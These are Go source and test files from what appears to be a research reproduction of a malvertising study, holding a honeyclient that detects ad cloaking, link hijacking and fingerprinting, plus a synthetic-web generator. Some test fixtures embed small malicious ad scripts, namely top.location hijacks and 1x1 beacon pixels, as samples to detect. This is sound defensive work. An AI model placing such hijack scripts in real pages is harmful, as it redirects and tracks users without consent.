	u, _ := fixture(t)
	h := New(u, 1)
	html := `<html><body><script>top.location = "http://www.example.com/";</script></body></html>`
	rep := h.AnalyzeHTML(html, "http://snapshot.test/ad")
	if !rep.Hijack {
		t.Fatalf("snapshot hijack missed: %+v", rep)
	}
}

func TestAnalyzeUnknownHost(t *testing.T) {
	u, _ := fixture(t)
	h := New(u, 1)
	rep := h.Analyze("http://no-such-ad-host.example.zz/serve")
	if len(rep.RenderErrors) == 0 {
		t.Fatal("expected render error for NX host")
	}
}

func TestDetectorToggles(t *testing.T) {
	u, srv := fixture(t)

	// Hijack detection off: the hijack ad stops reporting Hijack.
	pub, imp, _ := findImpression(t, srv, adnet.KindLinkHijack)
	h := New(u, 1)
	h.DisableHijackDetection = true
	rep := h.Analyze(frameURL(srv, pub, imp))
	if rep.Hijack {
		t.Fatal("hijack detection should be disabled")
	}

	// Redirect heuristics off: cloaking goes unnoticed.
	pub, imp, _ = findImpression(t, srv, adnet.KindCloaking)
	h2 := New(u, 1)
	h2.DisableRedirectHeuristics = true
	rep2 := h2.Analyze(frameURL(srv, pub, imp))
	if rep2.NXRedirect || rep2.BenignRedirect {
		t.Fatal("redirect heuristics should be disabled")
	}

	// Model off: the model-only creative scores but is not flagged.
	var c *adnet.Campaign
	for _, cand := range srv.Eco.Campaigns {
		if cand.Kind == adnet.KindModelOnly {
			c = cand
			break
		}
	}
	h3 := New(u, 1)
	h3.DisableModel = true
	rep3 := h3.AnalyzeHTML(adserver.CreativeHTML(c, "feedface00000000", 0), "http://"+c.CreativeHost+"/x")
	if rep3.ModelHit {
		t.Fatal("model should be disabled")
	}
	if rep3.Features.Score() < DefaultModelThreshold {
		t.Fatal("features should still be extracted")
	}
}

// TestBrokenCreativePartialExecution is the error-tolerance acceptance
// gate: a deliberately-broken creative (unterminated string, stray tokens,
// unbalanced parens after the interesting part) must still execute its
// intact prefix — here a §2.3 top.location hijack — instead of dying with a
// SyntaxError, and the recovered behavior must be deterministic per seed.
// The strict engine (TolerantJS=false) proves the hijack is only observable
// because of recovery.
func TestBrokenCreativePartialExecution(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("broken-ad.example.com", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<html><body><script>
document.write('<img src="http://beacon.example.com/px.gif" width="1" height="1">');
top.location = "http://hijack-lp.example.com/win";
var s = "unterminated
%%%% stray tokens ((((
</script></body></html>`)
	})
	u.HandleFunc("beacon.example.com", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "gif")
	})
	u.HandleFunc("hijack-lp.example.com", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "<html>win</html>")
	})

	analyze := func(tolerant bool) *Report {
		h := New(u, 7)
		h.TolerantJS = tolerant
		return h.Analyze("http://broken-ad.example.com/")
	}

	rep := analyze(true)
	if !rep.Hijack {
		t.Fatalf("broken creative did not execute its intact prefix: %+v", rep)
	}
	beaconSeen := false
	for _, host := range rep.Hosts {
		if host == "beacon.example.com" {
			beaconSeen = true
		}
	}
	if !beaconSeen {
		t.Fatalf("document.write before the breakage left no beacon contact; hosts: %v", rep.Hosts)
	}

	// Deterministic per seed: independent honeyclients agree byte-for-byte.
	j1, err := json.Marshal(rep)
	if err != nil {
		t.Fatal(err)
	}
	j2, err := json.Marshal(analyze(true))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(j1, j2) {
		t.Fatalf("recovered execution not deterministic:\n%s\nvs\n%s", j1, j2)
	}

	// Without recovery the same creative is inert: nothing executes.
	if strict := analyze(false); strict.Hijack {
		t.Fatal("strict parse should not have executed the broken creative")
	}
}
