// Package honeyclient is the reproduction's Wepawet (§3.2.1): an
// instrumented emulated browser that re-executes an advertisement, captures
// everything it does, and applies detection logic:
//
//   - heuristics — redirections to NX domains or to benign websites such as
//     Google and Bing, the signature of cloaking;
//   - suspicious redirections — top.location rewrites (link hijacking) and
//     other forced navigations;
//   - payload capture — executables and Flash the ad downloads, handed to
//     the AV-scanning stage;
//   - behavioural models — a feature vector over the ad's behaviour scored
//     against a model of known-malicious patterns.
package honeyclient

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"

	"madave/internal/browser"
	"madave/internal/cachex"
	"madave/internal/flowgraph"
	"madave/internal/memnet"
	"madave/internal/minijs"
	"madave/internal/netcap"
	"madave/internal/resilient"
	"madave/internal/stats"
	"madave/internal/telemetry"
	"madave/internal/urlx"
)

// benignRedirectHosts are the "benign websites like Google and Bing" whose
// appearance as a forced navigation target signals cloaking.
var benignRedirectHosts = map[string]bool{
	"www.google.com": true,
	"google.com":     true,
	"www.bing.com":   true,
	"bing.com":       true,
}

// Report is the honeyclient's analysis of one advertisement.
type Report struct {
	URL string
	// RenderErrors records load failures (informational).
	RenderErrors []string
	// Degraded is true when the analysis ran on a partial execution — some
	// fetch or script failed — so the verdict rests on surviving evidence.
	Degraded bool

	// Heuristic flags (cloaking indicators).
	NXRedirect     bool
	BenignRedirect bool
	// Hijack is true when a script rewrote top.location.
	Hijack bool
	// ForcedNavigations counts script-initiated navigations of any kind.
	ForcedNavigations int

	// Downloads are the binary payloads observed (executables, Flash).
	Downloads []browser.Download

	// Hosts is every host the ad contacted during instrumented execution.
	Hosts []string

	// Features is the behavioural feature vector; ModelScore its score.
	Features Features
	// ModelHit is true when the behavioural model flagged the ad.
	ModelHit bool

	// Graph is the flow-graph oracle's structural summary — nil unless
	// EnableGraph was called. It is additive: no other report field depends
	// on it, so enabling the graph cannot perturb the base verdict.
	Graph *flowgraph.Summary
}

// Features is the behavioural feature vector the model scores (the
// "machine learning models" component of Wepawet's classification).
type Features struct {
	// ObfuscationLayers counts eval(unescape(...)) wrappers encountered.
	ObfuscationLayers int
	// TrackingPixels counts 1x1 images planted by scripts.
	TrackingPixels int
	// ThirdPartyBeaconDomains counts distinct registered domains receiving
	// tracking pixels, excluding the ad's own domain.
	ThirdPartyBeaconDomains int
	// PluginEnumeration is true when scripts iterate navigator.plugins.
	PluginEnumeration bool
	// WritesScripts is true when document.write introduced new script or
	// iframe elements.
	WritesScripts bool
}

// Score computes the model score. The weights favor the combination that
// distinguishes malicious infrastructure — obfuscation plus fingerprint
// exfiltration to several unrelated collectors — over any single benign
// behaviour.
func (f Features) Score() float64 {
	score := 0.0
	score += 2.0 * float64(min(f.ObfuscationLayers, 3))
	beacons := f.ThirdPartyBeaconDomains
	if beacons > 5 {
		beacons = 5
	}
	score += 2.0 * float64(beacons)
	if f.PluginEnumeration && f.ObfuscationLayers > 0 {
		score += 1.5
	}
	if f.WritesScripts {
		score += 0.5
	}
	return score
}

// DefaultModelThreshold is the score at which the model flags an ad.
const DefaultModelThreshold = 7.5

// Honeyclient analyzes advertisements against a universe.
type Honeyclient struct {
	Universe *memnet.Universe
	// ModelThreshold gates ModelHit.
	ModelThreshold float64
	// ScriptBudget bounds per-ad script execution.
	ScriptBudget int
	// Seed derives the instrumented browser's randomness and retry jitter.
	Seed uint64
	// Timeout bounds one ad's instrumented execution end to end (0 = no
	// deadline). A timed-out analysis reports on surviving evidence.
	Timeout time.Duration
	// Transport, when non-nil, supplies the base HTTP transport instead of
	// the default in-memory one (e.g. a chaos-wrapped transport).
	Transport func() http.RoundTripper
	// Retry configures the resilience layer between the browser and the
	// transport (zero fields take resilient defaults; Seed comes from Seed).
	Retry resilient.Policy
	// Tel, when non-nil, records honeyclient.analyze spans and latency
	// samples (plus the instrumented browser's and transports' stages).
	// Analysis verdicts never depend on it.
	Tel *telemetry.Set

	// Detector toggles for the DESIGN.md ablations: disabling a component
	// shows its contribution to Table 1.
	DisableRedirectHeuristics bool // NX/benign-redirect (cloaking) detection
	DisableHijackDetection    bool // top.location rewrites
	DisableModel              bool // behavioural model

	// MinijsInterp forces the tree-walking script engine instead of the
	// bytecode VM — the -minijs-interp escape hatch. Verdicts are
	// engine-independent (the differential fuzzer enforces it), so this
	// only trades speed.
	MinijsInterp bool
	// TolerantJS runs page scripts through the error-recovering parser so
	// broken creatives execute to a partial result instead of erroring
	// out. New() enables it: real ad corpora are full of malformed
	// JavaScript, and the scripts most likely to carry drive-by behavior
	// are exactly the broken ones. Well-formed scripts parse identically
	// either way (FuzzParseRecover's superset law), so verdicts on clean
	// corpora are unaffected.
	TolerantJS bool

	// code shares parsed+compiled scripts across every browser this
	// honeyclient builds, keyed by source hash. Unlike the report cache it
	// is always on: compilation is a pure function of the source, so
	// sharing it cannot perturb verdicts.
	codeOnce sync.Once
	code     *minijs.CodeCache

	// cache, when enabled, memoizes analysis reports so advertisements
	// sharing a creative execute once (DESIGN.md §11). Reports are pure
	// functions of their key, so hits are byte-identical to recomputation.
	cache *cachex.Cache[string, *Report]

	// graphPolicy, when non-nil, enables the flow-graph summary on every
	// report. Graph assembly is a pure function of (page, capture), so a
	// cached report computed graph-on replays byte-identically.
	graphPolicy *flowgraph.Policy
}

// DefaultCacheEntries bounds the report cache when EnableCache gets 0.
// Reports carry page-sized evidence, so the default is deliberately smaller
// than the cheaper verdict caches'.
const DefaultCacheEntries = 1 << 14

// EnableCache turns on report memoization with the given entry capacity
// (0 = DefaultCacheEntries). Counters land in h.Tel (when set) under
// cache_*_total{cache="honeyclient"}. Enable before analysis starts.
func (h *Honeyclient) EnableCache(entries int) {
	if entries <= 0 {
		entries = DefaultCacheEntries
	}
	h.cache = cachex.New[string, *Report](cachex.Config{
		Capacity: entries,
		Name:     "honeyclient",
		Tel:      h.Tel,
	})
}

// EnableGraph turns on the flow-graph oracle: every report gains a Graph
// summary (structural features + the policy's verdict) assembled from the
// instrumented browser's frame tree, DOM-write provenance, and the capture's
// stamped transactions. Off by default — graph assembly walks the whole
// trace, and the hot-path allocation gates assume it only runs when asked
// for. Enable before analysis starts.
func (h *Honeyclient) EnableGraph(p flowgraph.Policy) {
	h.graphPolicy = &p
}

// CacheStats snapshots the report cache's counters; ok is false when the
// cache is disabled.
func (h *Honeyclient) CacheStats() (st cachex.Stats, ok bool) {
	if h.cache == nil {
		return cachex.Stats{}, false
	}
	return h.cache.Stats(), true
}

// cacheKey builds the memoization key for one analysis. The frame URL alone
// is not enough: chaos faults are a pure function of (chaos seed, URL,
// attempt) and the instrumented browser's randomness derives from Seed, so
// the seed and the presence of a custom (chaos-wrapped) transport must pin
// the key or a cache shared across differently-faulted runs would serve the
// wrong evidence. The crawl day pins temporal serving — an ad observed on
// day D must be re-executed as of day D, not as of whenever the cache was
// warm.
func (h *Honeyclient) cacheKey(kind string, day int, id string) string {
	chaos := byte('-')
	if h.Transport != nil {
		chaos = 't'
	}
	// Append-built (no fmt) so the per-ad fast path costs one allocation:
	// the final string. The layout matches the old Sprintf format verbatim.
	var buf [96]byte
	b := strconv.AppendUint(buf[:0], h.Seed, 10)
	b = append(b, '|', chaos, '|')
	b = strconv.AppendInt(b, int64(day), 10)
	b = append(b, '|')
	b = append(b, kind...)
	b = append(b, '|')
	b = append(b, id...)
	return string(b)
}

// New returns a honeyclient over the universe.
func New(u *memnet.Universe, seed uint64) *Honeyclient {
	return &Honeyclient{
		Universe:       u,
		ModelThreshold: DefaultModelThreshold,
		ScriptBudget:   500_000,
		Seed:           seed,
		TolerantJS:     true,
	}
}

// newBrowser builds the instrumented browser: honeyclient profile (sparse
// plugins, vulnerable Flash) over a resilient transport and a fresh
// capture. Retries keep transient faults from eating evidence; the capture
// sees one transaction per logical fetch.
func (h *Honeyclient) newBrowser() (*browser.Browser, *netcap.Capture) {
	var rt http.RoundTripper = &memnet.Transport{U: h.Universe, Tel: h.Tel}
	if h.Transport != nil {
		rt = h.Transport()
	}
	pol := h.Retry
	pol.Seed = h.Seed
	res := resilient.New(rt, pol, nil)
	res.Tel = h.Tel
	cap := netcap.New(res)
	client := &http.Client{
		Transport: cap,
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}
	b := browser.New(client, browser.HoneyclientProfile())
	b.Capture = cap
	b.Tel = h.Tel
	b.ScriptBudget = h.ScriptBudget
	b.RNG = stats.NewRNG(h.Seed).Fork("honeyclient")
	h.codeOnce.Do(func() { h.code = minijs.NewCodeCache(0, h.Tel) })
	b.CodeCache = h.code
	b.TolerantJS = h.TolerantJS
	b.TreeWalkJS = h.MinijsInterp
	return b, cap
}

// Analyze fetches and executes the advertisement at frameURL (the ad
// iframe's entry URL), like Wepawet receiving "the initial request for
// advertisements from a publisher's website".
func (h *Honeyclient) Analyze(frameURL string) *Report {
	return h.AnalyzeContext(context.Background(), frameURL)
}

// AnalyzeContext is Analyze under a caller-supplied context; the deadline
// (plus Timeout, when set) bounds the whole instrumented execution. A
// partial execution still yields a report, marked Degraded.
func (h *Honeyclient) AnalyzeContext(ctx context.Context, frameURL string) *Report {
	rep, _ := h.analyze(ctx, frameURL)
	return rep
}

// analyze is the uncached execution. The second return reports whether the
// result is reproducible (the bounded context survived): a report cut short
// by a deadline or cancellation reflects how far execution got by wall
// clock, which is exactly the kind of value the cache must never hold.
func (h *Honeyclient) analyze(ctx context.Context, frameURL string) (*Report, bool) {
	ctx, cancel := h.bound(ctx)
	defer cancel()
	var sp *telemetry.Span
	ctx, sp = h.Tel.StartSpan(ctx, telemetry.StageHoneyclient, frameURL)
	defer sp.End()
	b, cap := h.newBrowser()
	page, err := b.LoadContext(ctx, frameURL, "")
	rep := h.buildReport(frameURL, page, cap)
	if err != nil {
		rep.RenderErrors = append(rep.RenderErrors, err.Error())
	}
	rep.Degraded = len(rep.RenderErrors) > 0
	return rep, ctx.Err() == nil
}

// AnalyzeAdContext is the oracle's entrypoint: AnalyzeContext through the
// report cache (when enabled), keyed by (seed, chaos, crawl day, frame URL).
// Concurrent analyses of the same key coalesce into one instrumented
// execution. Cached reports are shared; treat them as immutable.
func (h *Honeyclient) AnalyzeAdContext(ctx context.Context, frameURL string, day int) *Report {
	if h.cache == nil {
		return h.AnalyzeContext(ctx, frameURL)
	}
	rep, _ := h.cache.GetOrLoad(h.cacheKey("frame", day, frameURL), func() (*Report, error) {
		rep, reproducible := h.analyze(ctx, frameURL)
		if !reproducible {
			return rep, cachex.ErrSkipStore
		}
		return rep, nil
	})
	return rep
}

// AnalyzeHTML executes an already-captured ad snapshot (corpus HTML). Live
// subresources are still fetched from the universe, so blacklisted hosts
// and payloads remain observable.
func (h *Honeyclient) AnalyzeHTML(html, baseURL string) *Report {
	return h.AnalyzeHTMLContext(context.Background(), html, baseURL)
}

// AnalyzeHTMLContext is AnalyzeHTML under a caller-supplied context.
func (h *Honeyclient) AnalyzeHTMLContext(ctx context.Context, html, baseURL string) *Report {
	rep, _ := h.analyzeHTML(ctx, html, baseURL)
	return rep
}

func (h *Honeyclient) analyzeHTML(ctx context.Context, html, baseURL string) (*Report, bool) {
	ctx, cancel := h.bound(ctx)
	defer cancel()
	var sp *telemetry.Span
	ctx, sp = h.Tel.StartSpan(ctx, telemetry.StageHoneyclient, baseURL)
	defer sp.End()
	b, cap := h.newBrowser()
	page := b.LoadHTMLContext(ctx, html, baseURL)
	rep := h.buildReport(baseURL, page, cap)
	rep.Degraded = len(rep.RenderErrors) > 0
	return rep, ctx.Err() == nil
}

// AnalyzeHTMLAdContext is AnalyzeHTMLContext through the report cache,
// keyed by the snapshot's content hash plus its base URL (the same document
// re-executes differently under a different base). Day and seed pin the key
// exactly as in AnalyzeAdContext.
func (h *Honeyclient) AnalyzeHTMLAdContext(ctx context.Context, html, baseURL string, day int) *Report {
	if h.cache == nil {
		return h.AnalyzeHTMLContext(ctx, html, baseURL)
	}
	// Hash the snapshot without the []byte(html) copy and append-build the
	// "hex|baseURL" id in one buffer — the document can be tens of
	// kilobytes, and this path runs once per frame snapshot.
	hasher := sha256.New()
	io.WriteString(hasher, html)
	var sum [sha256.Size]byte
	hasher.Sum(sum[:0])
	idBuf := make([]byte, 2*sha256.Size, 2*sha256.Size+1+len(baseURL))
	hex.Encode(idBuf, sum[:])
	idBuf = append(idBuf, '|')
	idBuf = append(idBuf, baseURL...)
	rep, _ := h.cache.GetOrLoad(h.cacheKey("html", day, string(idBuf)), func() (*Report, error) {
		rep, reproducible := h.analyzeHTML(ctx, html, baseURL)
		if !reproducible {
			return rep, cachex.ErrSkipStore
		}
		return rep, nil
	})
	return rep
}

// bound layers the honeyclient's own Timeout onto the caller's context.
func (h *Honeyclient) bound(ctx context.Context) (context.Context, context.CancelFunc) {
	if ctx == nil {
		ctx = context.Background()
	}
	if h.Timeout > 0 {
		return context.WithTimeout(ctx, h.Timeout)
	}
	return ctx, func() {}
}

func (h *Honeyclient) buildReport(url string, page *browser.Page, cap *netcap.Capture) *Report {
	rep := &Report{URL: url}
	if page == nil {
		return rep
	}
	rep.RenderErrors = append(rep.RenderErrors, page.Errors...)

	adDomain := urlx.RegisteredDomain(urlx.Host(page.FinalURL))

	for _, nav := range page.AllNavigations() {
		rep.ForcedNavigations++
		if nav.Kind == browser.NavTop && !nav.Blocked && !h.DisableHijackDetection {
			rep.Hijack = true
		}
		if h.DisableRedirectHeuristics {
			continue
		}
		if nav.NXDomain {
			rep.NXRedirect = true
		}
		if benignRedirectHosts[urlx.Host(nav.Target)] {
			rep.BenignRedirect = true
		}
	}

	rep.Downloads = page.AllDownloads()

	// Hosts contacted: from the capture, which saw every request.
	rep.Hosts = cap.Hosts()

	// Behavioural features.
	rep.Features = extractFeatures(page, adDomain)
	rep.ModelHit = !h.DisableModel && rep.Features.Score() >= h.ModelThreshold

	if h.graphPolicy != nil {
		rep.Graph = buildGraphSummary(url, page, cap, *h.graphPolicy)
	}
	return rep
}

// buildGraphSummary assembles the flow graph from the rendered frame tree
// and the capture's provenance-stamped transactions, then scores it.
func buildGraphSummary(url string, page *browser.Page, cap *netcap.Capture, pol flowgraph.Policy) *flowgraph.Summary {
	in := flowgraph.Input{PageURL: url}
	if cap != nil {
		in.Transactions = cap.All()
	}
	page.WalkFrames(func(p *browser.Page) {
		in.Frames = append(in.Frames, flowgraph.Frame{ID: p.FrameID, URL: p.FinalURL})
		for _, w := range p.DOMWrites {
			in.Writes = append(in.Writes, flowgraph.Write{FrameID: p.FrameID, Writer: w.Writer, Tags: w.Tags})
		}
	})
	g := flowgraph.Build(in)
	f := g.Features()
	return &flowgraph.Summary{Features: f, Verdict: pol.Classify(f)}
}

// extractFeatures mines the rendered page (and its frames) for the model's
// feature vector.
func extractFeatures(page *browser.Page, adDomain string) Features {
	var f Features
	collect(page, adDomain, &f, map[string]bool{})
	return f
}

func collect(p *browser.Page, adDomain string, f *Features, beaconDomains map[string]bool) {
	for _, src := range p.Scripts {
		f.ObfuscationLayers += strings.Count(src, "eval(unescape(")
		if strings.Contains(src, "navigator.plugins") {
			f.PluginEnumeration = true
		}
	}
	if p.Doc != nil {
		for _, img := range p.Doc.Find("img") {
			if img.AttrOr("width", "") == "1" && img.AttrOr("height", "") == "1" {
				f.TrackingPixels++
				src, _ := img.Attr("src")
				d := urlx.RegisteredDomain(urlx.Host(urlx.Resolve(p.FinalURL, src)))
				if d != "" && d != adDomain && !beaconDomains[d] {
					beaconDomains[d] = true
					f.ThirdPartyBeaconDomains++
				}
			}
		}
		// document.write-introduced script/iframe elements appear in the
		// DOM with no server-side counterpart in the original document; a
		// good-enough proxy is dynamic iframes of size 1x1.
		for _, fr := range p.Doc.Find("iframe") {
			if fr.AttrOr("width", "") == "1" {
				f.WritesScripts = true
			}
		}
	}
	for _, child := range p.Frames {
		collect(child, adDomain, f, beaconDomains)
	}
}
