package webgen

import (
	"strings"
	"testing"

	"madave/internal/urlx"
)

func genWeb(t *testing.T) *Web {
	t.Helper()
	w, err := Generate(DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	return w
}

func TestGenerateBasics(t *testing.T) {
	w := genWeb(t)
	if len(w.Sites) != DefaultConfig().NumSites {
		t.Fatalf("sites = %d", len(w.Sites))
	}
	for i, s := range w.Sites {
		if s.Rank != i+1 {
			t.Fatalf("rank at index %d = %d", i, s.Rank)
		}
		if !strings.HasPrefix(s.Host, "www.") {
			t.Fatalf("host = %q", s.Host)
		}
		if s.Domain != strings.TrimPrefix(s.Host, "www.") {
			t.Fatalf("domain = %q host = %q", s.Domain, s.Host)
		}
		if got := urlx.TLD(s.Host); got != s.TLD {
			t.Fatalf("TLD mismatch: site says %q, urlx says %q for %q", s.TLD, got, s.Host)
		}
		if s.PrimaryNetwork < 0 || s.PrimaryNetwork >= DefaultConfig().NumNetworks {
			t.Fatalf("network index %d out of range", s.PrimaryNetwork)
		}
		if s.AdSlots < 0 || s.AdSlots > 8 {
			t.Fatalf("ad slots = %d", s.AdSlots)
		}
	}
}

func TestGenerateDeterministic(t *testing.T) {
	w1 := genWeb(t)
	w2 := genWeb(t)
	for i := range w1.Sites {
		if w1.Sites[i].Host != w2.Sites[i].Host ||
			w1.Sites[i].Category != w2.Sites[i].Category ||
			w1.Sites[i].AdSlots != w2.Sites[i].AdSlots {
			t.Fatalf("site %d differs between runs", i)
		}
	}
	cfg := DefaultConfig()
	cfg.Seed = 2
	w3, err := Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	same := 0
	for i := range w1.Sites {
		if w1.Sites[i].Host == w3.Sites[i].Host {
			same++
		}
	}
	if same > len(w1.Sites)/100 {
		t.Fatalf("different seeds produced %d identical hosts", same)
	}
}

func TestUniqueDomains(t *testing.T) {
	w := genWeb(t)
	seen := map[string]bool{}
	for _, s := range w.Sites {
		if seen[s.Domain] {
			t.Fatalf("duplicate domain %q", s.Domain)
		}
		seen[s.Domain] = true
	}
}

func TestGenerateValidation(t *testing.T) {
	cfg := DefaultConfig()
	cfg.NumSites = 15_000
	if _, err := Generate(cfg); err == nil {
		t.Fatal("small NumSites should fail")
	}
	cfg = DefaultConfig()
	cfg.NumNetworks = 0
	if _, err := Generate(cfg); err == nil {
		t.Fatal("zero networks should fail")
	}
}

func TestClusters(t *testing.T) {
	w := genWeb(t)
	n := len(w.Sites)
	if got := w.Sites[0].Cluster(n); got != ClusterTop {
		t.Fatalf("rank 1 cluster = %q", got)
	}
	if got := w.Sites[9_999].Cluster(n); got != ClusterTop {
		t.Fatalf("rank 10000 cluster = %q", got)
	}
	if got := w.Sites[10_000].Cluster(n); got != ClusterOther {
		t.Fatalf("rank 10001 cluster = %q", got)
	}
	if got := w.Sites[n-1].Cluster(n); got != ClusterBottom {
		t.Fatalf("last rank cluster = %q", got)
	}
	if got := w.Sites[n-10_000].Cluster(n); got != ClusterBottom {
		t.Fatalf("first bottom rank cluster = %q", got)
	}
}

func TestAdSlotsGradient(t *testing.T) {
	w := genWeb(t)
	topSlots, bottomSlots := 0, 0
	for _, s := range w.TopSlice(10_000) {
		topSlots += s.AdSlots
	}
	for _, s := range w.BottomSlice(10_000) {
		bottomSlots += s.AdSlots
	}
	if topSlots <= 4*bottomSlots {
		t.Fatalf("top cluster must out-monetize bottom heavily: top=%d bottom=%d", topSlots, bottomSlots)
	}
}

// The measured ad-share of the top cluster in a paper-style crawl set must
// land near the paper's 76.6% (±6 points). This is the generator-side half
// of the §4.2 calibration; the full-pipeline value is asserted in the core
// package's integration tests.
func TestClusterAdShareCalibration(t *testing.T) {
	w := genWeb(t)
	crawl := w.CrawlSet(3_000)
	total := 0
	clusterSlots := map[Cluster]int{}
	n := len(w.Sites)
	for _, s := range crawl {
		total += s.AdSlots
		clusterSlots[s.Cluster(n)] += s.AdSlots
	}
	if total == 0 {
		t.Fatal("no ad slots at all")
	}
	topShare := float64(clusterSlots[ClusterTop]) / float64(total)
	bottomShare := float64(clusterSlots[ClusterBottom]) / float64(total)
	if topShare < 0.70 || topShare > 0.83 {
		t.Fatalf("top cluster ad share = %.3f, want ~0.766", topShare)
	}
	if bottomShare > 0.18 {
		t.Fatalf("bottom cluster ad share = %.3f, want ~0.116", bottomShare)
	}
}

func TestCategoryDistribution(t *testing.T) {
	w := genWeb(t)
	counts := map[Category]int{}
	for _, s := range w.Sites {
		counts[s.Category]++
	}
	n := float64(len(w.Sites))
	entNews := float64(counts[CatEntertainment]+counts[CatNews]) / n
	if entNews < 0.28 || entNews > 0.38 {
		t.Fatalf("entertainment+news share = %.3f, want ~1/3", entNews)
	}
	// Adult must rank third among individual categories.
	adult := counts[CatAdult]
	higher := 0
	for cat, c := range counts {
		if cat != CatAdult && c > adult {
			higher++
		}
	}
	if higher != 2 {
		t.Fatalf("adult rank = %d (want 3rd): counts=%v", higher+1, counts)
	}
}

func TestTLDDistribution(t *testing.T) {
	w := genWeb(t)
	counts := map[string]int{}
	generic := 0
	for _, s := range w.Sites {
		counts[s.TLD]++
		if urlx.IsGenericTLD(s.TLD) {
			generic++
		}
	}
	n := len(w.Sites)
	if float64(counts["com"])/float64(n) < 0.45 {
		t.Fatalf(".com share = %.3f, want majority-ish", float64(counts["com"])/float64(n))
	}
	if float64(generic)/float64(n) < 0.66 {
		t.Fatalf("generic TLD share = %.3f, want > 0.66", float64(generic)/float64(n))
	}
}

func TestSlices(t *testing.T) {
	w := genWeb(t)
	top := w.TopSlice(100)
	if len(top) != 100 || top[0].Rank != 1 || top[99].Rank != 100 {
		t.Fatal("TopSlice wrong")
	}
	bottom := w.BottomSlice(50)
	if len(bottom) != 50 || bottom[49].Rank != len(w.Sites) {
		t.Fatal("BottomSlice wrong")
	}
	random := w.RandomSlice(500, 7)
	if len(random) != 500 {
		t.Fatalf("RandomSlice = %d", len(random))
	}
	seen := map[int]bool{}
	for _, s := range random {
		if s.Rank <= 10_000 || s.Rank > len(w.Sites)-10_000 {
			t.Fatalf("random site rank %d overlaps top/bottom clusters", s.Rank)
		}
		if seen[s.Rank] {
			t.Fatalf("duplicate rank %d in random slice", s.Rank)
		}
		seen[s.Rank] = true
	}
}

func TestCrawlSetDeduplicated(t *testing.T) {
	w := genWeb(t)
	crawl := w.CrawlSet(2_000)
	seen := map[string]bool{}
	for _, s := range crawl {
		if seen[s.Host] {
			t.Fatalf("duplicate host %q in crawl set", s.Host)
		}
		seen[s.Host] = true
	}
	if len(crawl) < 20_000 {
		t.Fatalf("crawl set only %d sites", len(crawl))
	}
	for i := 1; i < len(crawl); i++ {
		if crawl[i].Rank <= crawl[i-1].Rank {
			t.Fatal("crawl set not in rank order")
		}
	}
}

func TestAVFeed(t *testing.T) {
	w := genWeb(t)
	feed := w.AVFeed()
	frac := float64(len(feed)) / float64(len(w.Sites))
	if frac < 0.01 || frac > 0.03 {
		t.Fatalf("AV feed fraction = %.4f, want ~0.02", frac)
	}
}

func TestByHost(t *testing.T) {
	w := genWeb(t)
	s := w.Sites[42]
	if got := w.ByHost(s.Host); got != s {
		t.Fatal("ByHost lookup failed")
	}
	if w.ByHost("www.never-generated.test") != nil {
		t.Fatal("ByHost should return nil for unknown hosts")
	}
}

func TestCategoriesAndTLDsListing(t *testing.T) {
	if len(Categories()) != 11 {
		t.Fatalf("categories = %v", Categories())
	}
	if len(TLDs()) != 14 {
		t.Fatalf("tlds = %v", TLDs())
	}
}

func TestAVFeedShadyBias(t *testing.T) {
	w := genWeb(t)
	cfg := DefaultConfig()
	shadyStart := int(float64(cfg.NumNetworks) * (1 - cfg.ShadyNetworkFraction))

	feedShady, feedTotal := 0, 0
	otherShady, otherTotal := 0, 0
	for _, s := range w.Sites {
		if s.InAVFeed {
			feedTotal++
			if s.PrimaryNetwork >= shadyStart {
				feedShady++
			}
		} else {
			otherTotal++
			if s.PrimaryNetwork >= shadyStart {
				otherShady++
			}
		}
	}
	if feedTotal == 0 {
		t.Fatal("no AV feed sites")
	}
	feedRate := float64(feedShady) / float64(feedTotal)
	otherRate := float64(otherShady) / float64(otherTotal)
	if feedRate < 0.3 {
		t.Fatalf("AV-feed shady affiliation = %.2f, want ~0.35+", feedRate)
	}
	if feedRate < otherRate*3 {
		t.Fatalf("AV-feed sites not skewed: feed %.2f vs others %.2f", feedRate, otherRate)
	}
}
