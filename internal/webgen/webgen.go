// Package webgen generates the synthetic web the study crawls: publisher
// websites with Alexa-like popularity ranks, content categories, top-level
// domains, and advertising slots.
//
// The generator replaces the paper's two live data feeds (the Alexa top-1M
// list slices and an antivirus company's URL feed) with a deterministic
// population whose marginal distributions are calibrated to what the paper
// observed, so that the measured pipeline reproduces Figures 3 and 4 and the
// §4.2 cluster shares from first principles rather than by construction.
package webgen

import (
	"fmt"
	"sort"

	"madave/internal/stats"
)

// Category is a website content category (the paper's Figure 3 taxonomy).
type Category string

// Categories used by the generator. Entertainment and news together make up
// roughly one third of malvertising-affected sites in the paper; adult is
// third-ranked.
const (
	CatEntertainment Category = "entertainment"
	CatNews          Category = "news"
	CatAdult         Category = "adult"
	CatShopping      Category = "shopping"
	CatSports        Category = "sports"
	CatTechnology    Category = "technology"
	CatFinance       Category = "finance"
	CatGames         Category = "games"
	CatTravel        Category = "travel"
	CatEducation     Category = "education"
	CatOther         Category = "other"
)

// categoryWeights calibrates the category mix of ad-carrying sites.
var categoryWeights = []struct {
	Cat    Category
	Weight float64
}{
	{CatEntertainment, 18},
	{CatNews, 15},
	{CatAdult, 12},
	{CatShopping, 10},
	{CatSports, 8},
	{CatTechnology, 8},
	{CatFinance, 6},
	{CatGames, 6},
	{CatTravel, 5},
	{CatEducation, 4},
	{CatOther, 8},
}

// tldWeights calibrates the TLD mix. Generic TLDs (led by .com and .net)
// must carry the majority of traffic (paper: >66% of malvertising on
// gTLDs, .com the outright majority).
var tldWeights = []struct {
	TLD    string
	Weight float64
}{
	{"com", 55},
	{"net", 12},
	{"org", 5},
	{"info", 2},
	{"biz", 1},
	{"de", 5},
	{"co.uk", 4},
	{"ru", 4},
	{"cn", 3},
	{"fr", 2.5},
	{"com.br", 2.5},
	{"nl", 1.5},
	{"it", 1.5},
	{"pl", 1},
}

